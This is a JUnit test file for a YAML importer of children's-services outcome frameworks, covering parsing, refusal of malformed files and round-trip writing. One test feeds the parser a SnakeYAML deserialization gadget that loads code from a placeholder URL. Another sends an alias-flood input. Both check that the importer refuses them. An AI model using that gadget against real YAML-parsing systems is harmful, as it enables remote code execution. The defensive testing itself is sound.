package org.youthvoice.framework.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.core.io.ClassPathResource;
import org.youthvoice.framework.FrameworkTree;
import org.youthvoice.framework.NodeKind;
import org.youthvoice.framework.TagNode;

class FrameworkYamlTest {

    private static String defaultFile() throws IOException {
        return new ClassPathResource("frameworks/default.yaml").getContentAsString(StandardCharsets.UTF_8);
    }

    private static ParsedFramework framework(List<ParsedFramework> all, String code) {
        return all.stream().filter(f -> f.code().equals(code)).findFirst().orElseThrow();
    }

    private static ParsedFramework.ParsedNode node(ParsedFramework framework, String code) {
        return framework.nodes().stream().filter(n -> n.code().equals(code)).findFirst().orElseThrow();
    }

    private static List<ImportProblem> problems(String yaml) {
        var refused = catchThrowableOfType(FrameworkImportException.class, () -> FrameworkYaml.parse(yaml));
        assertThat(refused).as("the file should be refused").isNotNull();
        assertThat(refused.messageKey()).isEqualTo("framework.import.refused");
        return refused.problems();
    }

    // --- the council's reference file ---

    @Test
    void the_reference_file_has_the_five_council_frameworks_in_file_order() throws IOException {
        var frameworks = FrameworkYaml.parse(defaultFile());

        assertThat(frameworks).extracting(ParsedFramework::code, ParsedFramework::retired).containsExactly(
                tuple("CYPS-2022", false), tuple("CP-2022", false), tuple("EDU-2022", false),
                tuple("BRIGHT-SPOTS", false), tuple("CYPP-2009", true));
    }

    @Test
    void corporate_parenting_has_seven_priorities_with_their_measures_and_fourteen_good_care_statements()
            throws IOException {
        var cp = framework(FrameworkYaml.parse(defaultFile()), "CP-2022");

        assertThat(cp.nodes()).filteredOn(n -> n.kind() == NodeKind.PRIORITY).hasSize(7);
        assertThat(node(cp, "CP-2022.TOGETHER").measures()).containsExactly(
                "Number of looked after children and care leavers attending participation events",
                "Number of looked after children and care leavers taking part in the Bright Spots survey");
        assertThat(node(cp, "CP-2022.REL").measures()).hasSize(4);
        assertThat(cp.statements()).hasSize(14).startsWith("I know why I am in care")
                .endsWith("When we leave care you are there, and we have good housing, money and a positive future");
        assertThat(cp.note()).startsWith("Written with the Children in Care Council").doesNotContain("\n");
    }

    @Test
    void a_title_with_commas_in_a_flow_mapping_is_read_whole() throws IOException {
        var cyps = framework(FrameworkYaml.parse(defaultFile()), "CYPS-2022");

        var safe1 = node(cyps, "CYPS-2022.SAFE.1");
        assertThat(safe1.title())
                .isEqualTo("Services work together to improve lives and outcomes for all children, young people and families");
        assertThat(safe1.kind()).isEqualTo(NodeKind.OUTCOME);
        assertThat(safe1.parentCode()).isEqualTo("CYPS-2022.SAFE");
        assertThat(node(cyps, "CYPS-2022.HEALTH.4").title())
                .isEqualTo("Children and young people adopt healthy habits, physical activity and healthy eating");
    }

    @Test
    void a_cross_cutting_theme_is_read_as_such() throws IOException {
        var poverty = node(framework(FrameworkYaml.parse(defaultFile()), "CYPS-2022"), "CYPS-2022.POVERTY");

        assertThat(poverty.kind()).isEqualTo(NodeKind.CROSS_CUTTING);
        assertThat(poverty.parentCode()).isNull();
        assertThat(poverty.title()).isEqualTo("Raising living standards and confronting deprivation");
    }

    @Test
    void outcomes_follow_their_priority_and_carry_its_code_as_parent() throws IOException {
        var cyps = framework(FrameworkYaml.parse(defaultFile()), "CYPS-2022");

        assertThat(cyps.nodes()).extracting(ParsedFramework.ParsedNode::code).startsWith("CYPS-2022.START",
                "CYPS-2022.START.1", "CYPS-2022.START.2", "CYPS-2022.START.3", "CYPS-2022.SAFE");
        assertThat(cyps.nodes()).filteredOn(n -> n.kind() == NodeKind.OUTCOME).hasSize(21)
                .allSatisfy(n -> assertThat(n.code()).startsWith(n.parentCode() + "."));
    }

    // --- files that are refused, with the line and the reason ---

    @Test
    void a_yaml_syntax_error_is_refused_with_its_line() {
        var problems = problems("""
                frameworks:
                  - code: T1
                \ttitle: Tabs are not allowed
                """);

        assertThat(problems).singleElement().satisfies(p -> {
            assertThat(p.messageKey()).isEqualTo("framework.import.tab");
            assertThat(p.line()).isEqualTo(3);
            assertThat(p.arguments()).as("no words of the reader's own").isEmpty();
        });
    }

    @Test
    void a_missing_colon_and_a_deep_file_are_refused_in_plain_words() {
        assertThat(problems("""
                frameworks:
                  - code: T1
                    title Missing colon
                    more: x
                """)).singleElement().satisfies(p -> {
                    assertThat(p.messageKey()).isEqualTo("framework.import.syntax");
                    assertThat(p.arguments()).isEmpty();
                });
        assertThat(problems("frameworks: " + "[".repeat(30) + "]".repeat(30))).singleElement()
                .satisfies(p -> assertThat(p.messageKey()).isEqualTo("framework.import.tooDeep"));
    }

    @Test
    void an_unknown_field_is_refused_with_its_line_and_the_allowed_fields() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    titel: Misspelt
                """);

        assertThat(problems).extracting(ImportProblem::line, ImportProblem::messageKey).containsExactlyInAnyOrder(
                tuple(3, "framework.import.unknownKey"), tuple(2, "framework.import.missing"));
        assertThat(problems).filteredOn(p -> p.messageKey().equals("framework.import.unknownKey")).singleElement()
                .satisfies(p -> assertThat(p.arguments().getFirst()).isEqualTo("titel"))
                .satisfies(p -> assertThat(p.arguments().get(1)).contains("title", "priorities"));
    }

    @Test
    void a_code_used_twice_is_refused_on_its_second_line_naming_the_first() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities:
                      - {code: T1.A, title: First}
                      - {code: T1.B, title: Second}
                      - {code: T1.A, title: Third}
                """);

        assertThat(problems).singleElement().isEqualTo(
                new ImportProblem(7, "framework.import.duplicateCode", "T1.A", "5"));
    }

    @Test
    void the_same_code_in_two_frameworks_of_one_file_is_refused() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: One
                    priorities:
                      - {code: T1.A, title: First}
                  - code: T1
                    title: Two
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(6, "framework.import.duplicateCode", "T1", "2"));
    }

    @Test
    void a_priority_without_a_title_is_refused_on_the_line_where_it_starts() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities:
                      - code: T1.A
                        measures: [One]
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(5, "framework.import.missing", "title"));
    }

    @Test
    void an_empty_title_is_refused_like_a_missing_one() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: "   "
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(3, "framework.import.missing", "title"));
    }

    @Test
    void an_outcome_code_without_the_framework_prefix_is_refused() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities:
                      - code: T1.A
                        title: A
                        outcomes:
                          - {code: T2.A.1, title: Wrong plan}
                """);

        assertThat(problems).singleElement().isEqualTo(
                new ImportProblem(8, "framework.import.codePrefix", "T2.A.1", "T1"));
    }

    @Test
    void a_code_that_only_starts_with_the_framework_code_but_not_its_prefix_is_refused() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities:
                      - {code: T10.A, title: Looks close}
                """);

        assertThat(problems).singleElement().isEqualTo(
                new ImportProblem(5, "framework.import.codePrefix", "T10.A", "T1"));
    }

    @Test
    void a_code_with_lower_case_letters_or_spaces_is_refused() {
        var problems = problems("""
                frameworks:
                  - code: t1 x
                    title: Test
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(2, "framework.import.badCode", "t1 x"));
    }

    @Test
    void priorities_that_are_not_a_list_are_refused() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities: Be healthy
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(4, "framework.import.expectedList", "priorities"));
    }

    @Test
    void retired_must_be_true_or_false() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    retired: maybe
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(4, "framework.import.expectedBoolean", "retired"));
    }

    @Test
    void an_empty_file_is_refused() {
        assertThat(problems("")).singleElement().isEqualTo(new ImportProblem(1, "framework.import.noFrameworks"));
        assertThat(problems("# only a comment\n")).singleElement()
                .isEqualTo(new ImportProblem(1, "framework.import.noFrameworks"));
    }

    @Test
    void a_file_without_a_frameworks_list_is_refused() {
        assertThat(problems("frameworks: []\n")).singleElement()
                .isEqualTo(new ImportProblem(1, "framework.import.noFrameworks"));
        assertThat(problems("- code: T1\n  title: Test\n")).singleElement()
                .isEqualTo(new ImportProblem(1, "framework.import.noFrameworks"));
    }

    @Test
    void a_file_over_one_megabyte_is_refused_before_it_is_read() {
        String big = "frameworks:\n  - code: T1\n    title: Test\n    note: " + "x".repeat(FrameworkYaml.MAX_BYTES) + "\n";

        assertThat(problems(big)).singleElement().isEqualTo(new ImportProblem(1, "framework.import.tooBig"));
    }

    @Test
    void a_field_given_twice_is_refused_instead_of_silently_losing_the_first() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    priorities:
                      - code: T1.A
                        title: A
                        outcomes:
                          - {code: T1.A.1, title: Kept}
                        outcomes:
                          - {code: T1.A.2, title: Lost}
                """);

        assertThat(problems).singleElement().isEqualTo(new ImportProblem(9, "framework.import.duplicateKey", "outcomes"));
    }

    @Test
    void a_file_with_many_aliases_is_refused_before_it_grows() {
        var problems = problems("frameworks:\n  - &a {code: T1, title: x}\n" + "  - *a\n".repeat(12));

        assertThat(problems).singleElement().satisfies(p -> assertThat(p.messageKey())
                .isEqualTo("framework.import.tooManyAliases"));
    }

    @Test
    void java_objects_are_never_built_from_a_file() {
        var problems = problems("""
                frameworks:
                  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                """);

        assertThat(problems).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(2);
            assertThat(p.messageKey()).isIn("framework.import.syntax", "framework.import.expectedMapping");
        });
    }

    @Test
    void every_problem_in_a_file_is_reported_at_once() {
        var problems = problems("""
                frameworks:
                  - code: T1
                    title: Test
                    retired: maybe
                    priorities:
                      - {code: T1.A}
                      - {code: X.B, title: Wrong prefix}
                  - code: T2
                    titel: Misspelt
                    cross_cutting: nope
                """);

        assertThat(problems).extracting(ImportProblem::line, ImportProblem::messageKey).containsExactlyInAnyOrder(
                tuple(4, "framework.import.expectedBoolean"),
                tuple(6, "framework.import.missing"),
                tuple(7, "framework.import.codePrefix"),
                tuple(9, "framework.import.unknownKey"),
                tuple(8, "framework.import.missing"),
                tuple(10, "framework.import.expectedList"));
    }

    @Test
    void hidden_control_characters_and_over_long_titles_are_refused() {
        var problems = problems("frameworks:\n  - code: T1\n    title: \"Bell\\a here\"\n    priorities:\n"
                + "      - {code: T1.A, title: " + "y".repeat(301) + "}\n");

        assertThat(problems).containsExactlyInAnyOrder(new ImportProblem(3, "framework.import.control", "title"),
                new ImportProblem(5, "framework.import.tooLong", "title", "300"));
    }

    // --- writing ---

    @Test
    void writing_the_reference_frameworks_and_reading_them_back_gives_the_same_frameworks() throws IOException {
        var original = FrameworkYaml.parse(defaultFile());

        String written = FrameworkYaml.write(original.stream().map(FrameworkYamlTest::tree).toList());
        var reread = FrameworkYaml.parse(written);

        assertThat(reread).hasSameSizeAs(original);
        for (int i = 0; i < original.size(); i++) {
            var a = original.get(i);
            var b = reread.get(i);
            assertThat(b.code()).isEqualTo(a.code());
            assertThat(b.title()).isEqualTo(a.title());
            assertThat(b.source()).isEqualTo(a.source());
            assertThat(b.vision()).isEqualTo(a.vision());
            assertThat(b.note()).isEqualTo(a.note());
            assertThat(b.retired()).isEqualTo(a.retired());
            assertThat(b.statements()).isEqualTo(a.statements());
            assertThat(b.nodes()).usingRecursiveFieldByFieldElementComparatorIgnoringFields("line")
                    .containsExactlyElementsOf(a.nodes());
        }
    }

    @Test
    void nodes_taken_out_of_a_plan_are_not_written() {
        var tree = new FrameworkTree("T1", "Test", null, null, null, false, 3, List.of(
                new TagNode("T1.A", "Kept", NodeKind.PRIORITY, false, List.of(), List.of(
                        new TagNode("T1.A.1", "Kept outcome", NodeKind.OUTCOME, false, List.of(), List.of()),
                        new TagNode("T1.A.2", "Gone outcome", NodeKind.OUTCOME, true, List.of(), List.of()))),
                new TagNode("T1.B", "Gone", NodeKind.PRIORITY, true, List.of(), List.of())), List.of());

        var reread = FrameworkYaml.parse(FrameworkYaml.write(List.of(tree)));

        assertThat(reread.getFirst().nodes()).extracting(ParsedFramework.ParsedNode::code)
                .containsExactly("T1.A", "T1.A.1");
    }

    @Test
    void text_that_looks_like_yaml_survives_a_round_trip() {
        String tricky = "Yes: \"no\" # not a comment, - [x] {y} & *z ! %w @v `u` 'single' \u00e9t\u00e9 \ud83d\ude00";
        var tree = new FrameworkTree("T1", tricky, "true", "123", "null", false, 1, List.of(
                new TagNode("T1.A", "- starts with a dash", NodeKind.PRIORITY, false, List.of("no", "on", "~"),
                        List.of())), List.of("yes", "I said: hello"));

        var reread = FrameworkYaml.parse(FrameworkYaml.write(List.of(tree))).getFirst();

        assertThat(reread.title()).isEqualTo(tricky);
        assertThat(reread.source()).isEqualTo("true");
        assertThat(reread.vision()).isEqualTo("123");
        assertThat(reread.note()).isEqualTo("null");
        assertThat(reread.nodes().getFirst().title()).isEqualTo("- starts with a dash");
        assertThat(reread.nodes().getFirst().measures()).containsExactly("no", "on", "~");
        assertThat(reread.statements()).containsExactly("yes", "I said: hello");
    }

    /** The tree the service would build from a stored framework. */
    static FrameworkTree tree(ParsedFramework f) {
        var top = new ArrayList<TagNode>();
        for (var n : f.nodes()) {
            if (n.parentCode() == null) {
                var children = f.nodes().stream().filter(c -> n.code().equals(c.parentCode()))
                        .map(c -> new TagNode(c.code(), c.title(), c.kind(), false, c.measures(), List.of())).toList();
                top.add(new TagNode(n.code(), n.title(), n.kind(), false, n.measures(), children));
            }
        }
        return new FrameworkTree(f.code(), f.title(), f.source(), f.vision(), f.note(), f.retired(), 1, top,
                f.statements());
    }
}
